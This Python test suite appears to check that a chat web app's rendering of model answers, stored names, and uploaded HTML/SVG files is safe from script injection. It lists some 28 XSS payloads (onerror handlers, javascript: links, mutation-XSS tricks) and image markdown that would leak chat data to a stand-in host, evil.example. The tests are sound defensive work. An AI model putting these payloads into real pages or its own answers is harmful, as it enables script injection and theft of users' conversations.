"""What people and models write is text: it never runs, nor leaves the page."""
import re
import uuid

import pytest
import requests
from conftest import URL, Account, ask, expect, new_chat

ATTACKS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<a href='javascript:alert(1)'>click</a>", "[click](javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)", "<details open ontoggle=alert(1)>x</details>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "![x](\"onerror=alert(1) x=\")", "<form action=javascript:alert(1)><button>go</button></form>", "<style>*{display:none}</style>", "<base href=//evil.example>",
    "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>", "<object data='javascript:alert(1)'></object>",
    "```html\n<img src=x onerror=alert(1)>\n```", "`<img src=x onerror=alert(1)>`", "$\\href{javascript:alert(1)}{x}$", "$\\htmlData{a=<img src=x onerror=alert(1)>}{x}$",
    "[x]: javascript:alert(1)\n\n[x]", "<a id=announcer name=app class='dialog shade'>x</a>", "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->", "\\<img src=x onerror=alert(1)>", "<p title=\"</p><img src=x onerror=alert(1)>\">", "[1](<javascript:alert(1)>)",
]


def unharmed(page):
    """Nothing ran, nothing was let in that could."""
    page.wait_for_timeout(150)
    assert page.dialogs == []
    found = page.evaluate("""() => {
        const bad = [];
        for (const element of document.querySelectorAll('#app *, dialog *')) {
            if (/^(SCRIPT|IFRAME|OBJECT|EMBED|BASE|STYLE|LINK|META|TEMPLATE|VIDEO|AUDIO)$/.test(element.tagName)) bad.push(element.outerHTML);
            for (const {name, value} of element.attributes) {
                if (/^on/.test(name)) bad.push(element.outerHTML);
                if (/^(href|src|action|xlink:href)$/.test(name) && /^\\s*(javascript|vbscript|data:text)/i.test(value)) bad.push(element.outerHTML);
            }
        }
        return bad;
    }""")
    assert found == []


@pytest.mark.parametrize("batch", [ATTACKS[:10], ATTACKS[10:20], ATTACKS[20:]], ids=["a", "b", "c"])
def test_what_a_model_answers(admin, open_page, batch):
    page = open_page(admin)
    new_chat(page)
    for attack in batch:
        ask(page, "Look:\n\n" + attack + "\n\nend")
        expect(page.locator(".message.assistant .prose").last).to_contain_text("end")
        unharmed(page)
    # The titles in the list, and everything again as it was stored.
    page.reload()
    expect(page.locator(".message.assistant .prose").last).to_contain_text("end")
    unharmed(page)
    for link in page.locator(".prose a").all():
        assert re.match(r"https?:|mailto:|#|/", link.get_attribute("href") or "#")


def test_a_picture_from_elsewhere_is_not_asked_for(admin, open_page):
    page = open_page(admin)
    asked = []
    page.on("request", lambda request: asked.append(request.url) if not request.url.startswith((URL, "data:", "blob:")) else None)
    new_chat(page)
    ask(page, "Look:\n\n![secret](https://evil.example/p.png?chat=everything) <img src=//evil.example/q.png> ![ok](data:image/gif;base64,R0lGODlhAQABAAAAACw=)\n\nend")
    expect(page.locator(".prose").get_by_role("link", name="secret")).to_be_visible()
    assert asked == []
    assert page.locator(".prose img").count() == 1
    page.complaints[:] = [text for text in page.complaints if "evil.example" not in text]


def test_a_model_cannot_dress_up_as_the_page(admin, open_page):
    page = open_page(admin)
    new_chat(page)
    ask(page, 'Look:\n\n<div class="toast error" id="toasts" role="alert" style="position:fixed;inset:0">Your session ended</div>\n\nend')
    answer = page.locator(".prose")
    expect(answer).to_contain_text("end")
    assert answer.locator("[class*=toast], [id], [role], [style]").count() == 0


@pytest.mark.parametrize("attack", ["<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "{{constructor.constructor('alert(1)')()}}"])
def test_names_of_everything(admin, open_page, attack):
    mark = uuid.uuid4().hex[:6]
    name = f"{attack}{mark}"
    email = f"{mark}@example.com"
    made = admin.call("POST", "/api/v1/auths/add", {"name": name, "email": email, "password": "Passw0rd!", "role": "user"})
    group = admin.call("POST", "/api/v1/groups/create", {"name": name, "description": attack})
    collection = admin.call("POST", "/api/v1/knowledge/create", {"name": name, "description": attack})
    chat = admin.call("POST", "/api/v1/chats/new", {"chat": {"title": name, "models": ["echo-1"], "history": {"messages": {
        "m": {"id": "m", "parentId": None, "childrenIds": ["n"], "role": "user", "content": attack, "files": [{"type": "file", "id": attack, "name": attack}, {"type": "image", "url": "javascript:alert(1)"}]},
        "n": {"id": "n", "parentId": "m", "childrenIds": [], "role": "assistant", "content": attack + " [1]", "model": attack, "done": True, "error": {"content": attack},
              "sources": [{"source": {"name": attack, "url": "javascript:alert(1)"}, "document": [attack], "metadata": [{"source": attack, "name": attack, "headings": [attack]}]}]}},
        "currentId": "n"}}})
    folder = admin.call("POST", "/api/v1/folders/", {"name": name})
    model = admin.call("POST", "/api/v1/models/create", {"id": f"m-{mark}", "name": name, "base_model_id": "echo-1", "params": {}, "meta": {"description": attack, "tags": [{"name": attack}]}})
    function = admin.call("POST", "/api/v1/functions/create", {"id": f"f{mark}", "name": name, "content": "class Pipe:\n    def pipe(self, body):\n        return ''", "meta": {
        "description": attack, "manifest": {"version": attack, "author": attack}}})
    tool = admin.call("POST", "/api/v1/tools/create", {"id": f"t{mark}", "name": name, "meta": {"description": attack}, "content": (
        'from pydantic import BaseModel, Field\nclass Tools:\n    class Valves(BaseModel):\n        a: str = Field("x", title=%r, description=%r)\n    class UserValves(Valves):\n        pass\n' % (attack, attack))})
    upload = requests.post(f"{URL}/api/v1/files/?process=true", headers={"Authorization": f"Bearer {admin.token}"}, timeout=60,
                           data={"metadata": '{"knowledge_id":"%s"}' % collection["id"]}, files={"file": (f"{name}.txt".replace('"', "%22"), f"text {mark} {attack}".encode(), "text/plain")})
    assert upload.ok
    page = open_page(admin, None)
    for path in ("/", f"/c/{chat['id']}", "/knowledge", f"/knowledge/{collection['id']}", "/workspace", "/admin/users", "/admin/groups", "/admin/models", "/admin/functions", "/admin/tools", "/settings/tools", "/admin/audit", "/archived"):
        page.goto(URL + path)
        expect(page.locator("#main > *").first).to_be_visible()
        unharmed(page)
    page.goto(f"{URL}/c/{chat['id']}")
    page.get_by_role("list", name="Sources").get_by_role("button").click()
    expect(page.get_by_role("dialog")).to_contain_text(attack)
    unharmed(page)
    page.goto(f"{URL}/admin/tools")
    page.locator(f"li.plugin[data-id=t{mark}]").get_by_role("button", name="Valves").click()
    expect(page.get_by_role("dialog").get_by_label(attack)).to_have_value("x")
    expect(page.get_by_role("dialog").locator(".hint")).to_have_text(attack)
    unharmed(page)
    page.goto(f"{URL}/knowledge/{collection['id']}")
    expect(page.get_by_role("heading", name=name)).to_be_visible()
    page.get_by_role("searchbox", name="Search in the documents").fill(f"text {mark}")
    page.get_by_role("button", name="Search", exact=True).click()
    expect(page.locator(".result").first).to_contain_text(mark, timeout=60_000)
    unharmed(page)
    person = open_page(Account(email), "/")
    expect(person.get_by_role("button", name=f"Account: {name}")).to_be_visible()
    unharmed(person)
    admin.call("DELETE", f"/api/v1/functions/id/{function['id']}/delete")
    admin.call("DELETE", f"/api/v1/tools/id/{tool['id']}/delete")
    admin.call("DELETE", f"/api/v1/users/{made['id']}")
    admin.call("DELETE", f"/api/v1/groups/id/{group['id']}/delete")
    admin.call("DELETE", f"/api/v1/knowledge/{collection['id']}/delete")
    admin.call("DELETE", f"/api/v1/chats/{chat['id']}")
    admin.call("DELETE", f"/api/v1/folders/{folder['id']}")
    admin.call("POST", "/api/v1/models/model/delete", {"id": model["id"]})


def test_an_uploaded_page_does_not_run_here(admin, open_page):
    """Opened by its own address, an HTML or SVG file must not act as its reader."""
    for name, kind, body in (("evil.html", "text/html", b"<script>alert(document.domain)</script>x"), ("evil.svg", "image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>")):
        made = requests.post(f"{URL}/api/v1/files/?process=false", headers={"Authorization": f"Bearer {admin.token}"}, files={"file": (name, body, kind)}, timeout=60).json()
        for tail in ("content", "content/html"):
            answer = requests.get(f"{URL}/api/v1/files/{made['id']}/{tail}", headers={"Authorization": f"Bearer {admin.token}"}, timeout=30)
            if answer.ok:
                assert "sandbox" in answer.headers["content-security-policy"] and answer.headers["x-content-type-options"] == "nosniff"


def test_the_browser_would_refuse_markup_that_goes_round_the_sanitiser(admin, open_page):
    page = open_page(admin)
    expect(page.get_by_label("Message", exact=True)).to_be_visible()
    refused = page.evaluate("""async () => {
        const script = document.createElement('script');
        try { document.body.innerHTML = '<b>x</b>'; return 'markup was taken'; } catch (error) { if (!/Trusted/.test(error)) return String(error); }
        // Not at once: what a debugger evaluates may do more.
        const ran = await new Promise((resolve) => setTimeout(() => { try { (0, eval)('1'); resolve(true); } catch { resolve(false); } }, 50));
        if (ran) return 'eval ran';
        const frame = await fetch('https://example.com/').then(() => 'fetched', () => 'refused');
        return frame;
    }""")
    assert refused == "refused"
    page.complaints.clear()


def test_the_page_is_not_framed_and_answers_say_so():
    headers = requests.get(URL + "/", timeout=30).headers
    assert "frame-ancestors 'none'" in headers["content-security-policy"] and headers["x-frame-options"] == "DENY"
    assert "unsafe" not in headers["content-security-policy"]
